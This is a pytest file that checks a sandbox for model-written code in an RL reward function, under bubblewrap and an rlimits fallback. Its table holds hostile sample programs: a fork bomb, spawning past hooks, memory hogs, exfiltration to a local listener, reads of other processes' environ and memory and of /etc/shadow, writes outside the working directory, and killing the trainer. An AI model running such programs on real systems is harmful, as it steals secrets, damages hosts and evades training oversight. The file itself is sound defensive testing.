"""Hostile completions against the `code_tests` sandbox, under bubblewrap and under the fallback.

One table, one row per hostile program. Each program runs through the real reward, called the way
TRL calls it, and asserts that its attack worked: a score of 1.0 would mean it got through. A row
is *contained* when the score is 0.0, the run ended within the time limit, the child was stopped by
what the row expects (so a typo in the program cannot pass for containment), and the host is as it
was: no process of the run left (found by a marker in the process name or command line), no new
children of the test process (the "trainer", which is still alive), no file outside, nothing
received by the listener, and neither the canary secret nor /etc/shadow in anything logged.

A row may name an isolation it is documented to get through (`known_gap`): it is reported, not
failed. The fallback holds hostile code only when the trainer is root (each run gets a uid of its
own), so as another user only bubblewrap is tried, and without the fork bomb.
"""

from __future__ import annotations

import dataclasses
import logging
import os
import re
import secrets
import shutil
import socket
import tempfile
import textwrap
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from service.errors import LayerpilotError
from service.rewards import code as code_reward
from tests.service.rewards.helpers import received, reward

TIMEOUT = 1.5
SLACK = 3.0  # interpreter start, bubblewrap, the sweep; on 2 busy cores
SECRET_NAME = "LAYERPILOT_MLFLOW_TOKEN"

PREAMBLE = """\
import ctypes, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(15, b"{marker}", 0, 0, 0)  # PR_SET_NAME: children and forks carry the marker
"""


@dataclasses.dataclass
class Row:
    name: str
    program: str  # formatted with marker, port, target, trainer, secret_name
    stopped_by: str  # regex the run's log must match: what stopped it
    known_gap: frozenset[str] = frozenset()  # isolations this row is documented to get through
    needs_root: bool = False  # safe only with a uid (and so a process limit) of the run's own


ROWS = [
    Row("infinite loop", "while True:\n    pass", r"timed out"),
    Row(
        "fork bomb (os.fork loop, setsid)",
        """
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                time.sleep(0.001)
        """,
        r"timed out",
        needs_root=True,
    ),
    Row(
        "spawning (subprocess.Popen, new session)",
        """
        import subprocess
        for _ in range(4):
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "{marker}"],
                             start_new_session=True)
        time.sleep(60)
        """,
        r"subprocess\.Popen is not allowed",
    ),
    Row(
        "spawning past the hook (ctypes fork, setsid, execv)",
        """
        for _ in range(4):
            if libc.fork() == 0:
                libc.setsid()
                libc.execv(b"/bin/sleep", (ctypes.c_char_p * 3)(b"{marker}", b"60", None))
                os._exit(127)
        time.sleep(60)
        """,
        r"timed out",
    ),
    Row("memory hog (one 8 GiB block)", "hog = bytearray(8 * 1024**3)", r"MemoryError"),
    Row(
        "memory hog (growing, touched)",
        "hog = []\nwhile True:\n    hog.append(b'x' * (32 * 1024**2))",
        r"MemoryError",
    ),
    Row(
        "network: plain socket connect",
        "s = socket.socket()\ns.connect(('127.0.0.1', {port}))\ns.sendall(b'TOKEN')",
        r"sandbox: a network socket is not allowed",
    ),
    Row(
        "network: raw libc socket/connect",
        """
        fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
        assert fd >= 0, ("socket", ctypes.get_errno())
        addr = struct.pack("=H", socket.AF_INET) + struct.pack("!H", {port}) + socket.inet_aton("127.0.0.1")
        addr += bytes(8)
        assert libc.connect(fd, addr, len(addr)) == 0, ("connect", ctypes.get_errno())
        assert libc.write(fd, b"TOKEN", 5) == 5
        """,
        r"AssertionError: \('(socket|connect)', \d+\)",
    ),
    Row(
        "environment secret (own env; libc read of /proc/<parent|trainer|1>/environ)",
        """
        leaked = [value for key, value in os.environ.items() if key == "{secret_name}"]
        for pid in (os.getppid(), {trainer}, 1):  # any other process's environment block counts
            fd = libc.open(b"/proc/%d/environ" % pid, os.O_RDONLY)
            leaked += [pid] if fd >= 0 and libc.read(fd, ctypes.create_string_buffer(64), 64) > 0 else []
            print("environ of", pid, "errno", ctypes.get_errno(), file=sys.stderr)
        assert leaked, "no secret"
        """,
        r"AssertionError: no secret",
    ),
    Row(
        "trainer's memory (libc read of /proc/<parent|trainer>/mem)",
        """
        libc.pread.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long]
        buf, found = ctypes.create_string_buffer(1 << 24), []
        for pid in (os.getppid(), {trainer}):
            maps, mem = libc.open(b"/proc/%d/maps" % pid, 0), libc.open(b"/proc/%d/mem" % pid, 0)
            if maps < 0 or mem < 0:
                print("memory of", pid, "errno", ctypes.get_errno(), file=sys.stderr)
                continue
            text = b""
            while (n := libc.read(maps, buf, 1 << 24)) > 0:
                text += buf.raw[:n]
            for line in text.decode().splitlines():
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                for at in range(start, end, 1 << 24) if "rw" in line.split()[1] else ():
                    n = libc.pread(mem, buf, min(1 << 24, end - at), at)
                    found += [buf.raw[:max(n, 0)].count(b"canary-")]
        assert sum(found), "no secret"
        """,
        r"AssertionError: no secret",
    ),
    Row(
        "write outside: open()",
        "open('{target}', 'w').write('escaped')",
        r"writing outside the working directory is not allowed",
    ),
    Row(
        "write outside: libc open/write",
        """
        fd = libc.open(b"{target}", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        assert fd >= 0, ("open", ctypes.get_errno())
        assert libc.write(fd, b"escaped", 7) == 7
        """,
        r"AssertionError: \('open', (2|13|30)\)",  # ENOENT, EACCES, EROFS
    ),
    Row(
        "write into world-writable /tmp: libc open/write",
        """
        fd = libc.open(b"/tmp/{marker}", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        assert fd >= 0, ("open", ctypes.get_errno())
        assert libc.write(fd, b"escaped", 7) == 7
        """,
        r"AssertionError: \('open', (2|13|30)\)",
        known_gap=frozenset({"rlimits"}),  # documented: rlimits cannot hide world-writable dirs
    ),
    Row(
        "read /etc/shadow",
        "print(open('/etc/shadow').read(), file=sys.stderr)",
        r"PermissionError: \[Errno 13\] Permission denied: '/etc/shadow'",
    ),
    Row(
        "kill the parent: os.kill(getppid(), 9)",
        "os.kill(os.getppid(), 9)\ntime.sleep(5)",
        r"signalling other processes is not allowed",
    ),
    Row(
        "kill the parent's group: os.killpg",
        "os.killpg(os.getpgid(os.getppid()), 9)\ntime.sleep(5)",
        r"signalling other processes is not allowed|ProcessLookupError",  # or not even visible
    ),
    Row(
        "kill the trainer past the hook: libc kill/killpg",
        """
        errors = []
        for target in (os.getppid(), {trainer}):
            group = libc.getpgid(target)
            for pid in (target, -group):
                if pid not in (0, -1, os.getpid(), -os.getpgid(0)):  # never itself
                    errors.append(ctypes.get_errno() if libc.kill(pid, 9) else "killed")
        assert "killed" in errors, ("kill", errors)
        """,
        r"AssertionError: \('kill', \[[13, ]+\]\)",  # EPERM, or ESRCH where the trainer is not visible
    ),
]


def _alive(pid: str) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except (OSError, IndexError):
        return False


def _marked_processes(marker: str) -> list[str]:
    """Live processes whose name or command line carries `marker`."""
    found = []
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            marked = proc.joinpath("comm").read_text().strip() == marker
            marked = marked or marker.encode() in proc.joinpath("cmdline").read_bytes()
        except OSError:
            continue
        if marked and _alive(proc.name):
            found.append(proc.name)
    return found


def _children_of(pid: int) -> set[str]:
    children = set()
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if fields[1] == str(pid) and fields[0] not in ("Z", "X"):
            children.add(stat.parent.name)
    return children


@pytest.fixture
def sandbox_tmp(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Path]:
    """The runs' own temp dir, so that anything they leave behind is ours to see (`tmp_path`,
    where the programs try to write, stays in pytest's own, root-only, directory)."""
    path = Path(tempfile.mkdtemp(prefix="lp-sandbox-test-", dir="/tmp"))
    path.chmod(0o755)
    monkeypatch.setattr(tempfile, "tempdir", str(path))
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _use_isolation(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(code_reward.SANDBOX_ENV, kind)
    try:
        assert code_reward.isolation() == kind
    except LayerpilotError as err:
        pytest.skip(str(err))


def _as_trl_calls(func: Callable[..., list[float | None]], program: str) -> list[float | None]:
    completion = [{"role": "assistant", "content": f"Here you go:\n```python\n{program}\n```"}]
    return func(
        prompts=[[{"role": "user", "content": "Write a function."}]],
        completions=[completion],
        completion_ids=[[1, 2, 3]],
        trainer_state=None,
        tests=[""],
    )


@pytest.mark.parametrize("kind", ["bubblewrap", "rlimits"])
def test_hostile_programs_are_contained(
    kind: str,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
    listener: socket.socket,
    sandbox_tmp: Path,
    tmp_path: Path,
) -> None:
    root = os.geteuid() == 0
    if kind == "rlimits" and not root:
        pytest.skip("without bubblewrap, hostile code is held only when the trainer is root (a uid per run)")
    _use_isolation(kind, monkeypatch)
    canary = f"canary-{secrets.token_hex(12)}"
    monkeypatch.setenv(SECRET_NAME, canary)
    shadow = Path("/etc/shadow")
    shadow_text = shadow.read_text() if os.geteuid() == 0 and shadow.exists() else ""
    shadow_root = next((line for line in shadow_text.splitlines() if line.startswith("root:")), "")
    caplog.set_level(logging.DEBUG, logger="service.rewards.code")
    func = reward("code_tests", timeout=TIMEOUT, memory_mb=256)

    table: list[tuple[str, str, float, str]] = []
    failures: list[str] = []
    for row in ROWS:
        if ("/etc/shadow" in row.program and not shadow_text) or (row.needs_root and not root):
            continue
        marker = f"lp{secrets.token_hex(6)}"
        target = tmp_path / f"{marker}.txt"
        program = (
            textwrap.dedent(row.program)
            .strip("\n")
            .format(
                marker=marker,
                port=listener.getsockname()[1],
                target=target,
                trainer=os.getpid(),
                secret_name=SECRET_NAME,
            )
        )
        children_before = _children_of(os.getpid())
        caplog.clear()
        started = time.monotonic()
        scores = _as_trl_calls(func, PREAMBLE.format(marker=marker) + program)
        elapsed = time.monotonic() - started
        log = caplog.text
        problems = []
        if scores != [0.0]:
            problems.append(f"scored {scores}")
        if elapsed > TIMEOUT + SLACK:
            problems.append(f"took {elapsed:.1f} s")
        if not re.search(row.stopped_by, log):
            problems.append(f"not stopped by /{row.stopped_by}/: {log[-600:]!r}")
        if left := _marked_processes(marker):
            problems.append(f"processes left: {left}")
        if new := _children_of(os.getpid()) - children_before:
            problems.append(f"new children of the trainer: {sorted(new)}")
        for path in (target, Path(f"/tmp/{marker}")):
            if path.exists():
                problems.append(f"wrote {path}")
                path.unlink()
        if leftovers := list(sandbox_tmp.iterdir()):
            problems.append(f"left in the temp dir: {leftovers}")
            for item in leftovers:
                shutil.rmtree(item, ignore_errors=True)
        if got := received(listener, wait_s=0.05):
            problems.append(f"listener received {got}")
        if canary in log:
            problems.append("the canary secret reached the log")
        if shadow_root and shadow_root in log:
            problems.append("/etc/shadow reached the log")
        verdict = "contained" if not problems else "escaped"
        if problems and kind in row.known_gap:
            verdict = "escaped (known gap)"
        elif problems:
            failures.append(f"{row.name}: {'; '.join(problems)}")
        table.append((row.name, verdict, elapsed, "; ".join(problems)))

    contained = sum(verdict == "contained" for _, verdict, _, _ in table)
    with capsys.disabled():
        print(f"\nsandbox [{kind}] against {len(table)} hostile programs:")
        for name, verdict, elapsed, why in table:
            print(f"  {verdict:<20} {elapsed:5.2f} s  {name}" + (f"  ({why[:200]})" if why else ""))
        print(f"sandbox [{kind}]: {contained} contained, {len(table) - contained} escaped")
    assert os.getpid() and _alive(str(os.getpid()))  # the trainer is still here
    assert not failures, "\n".join(failures)
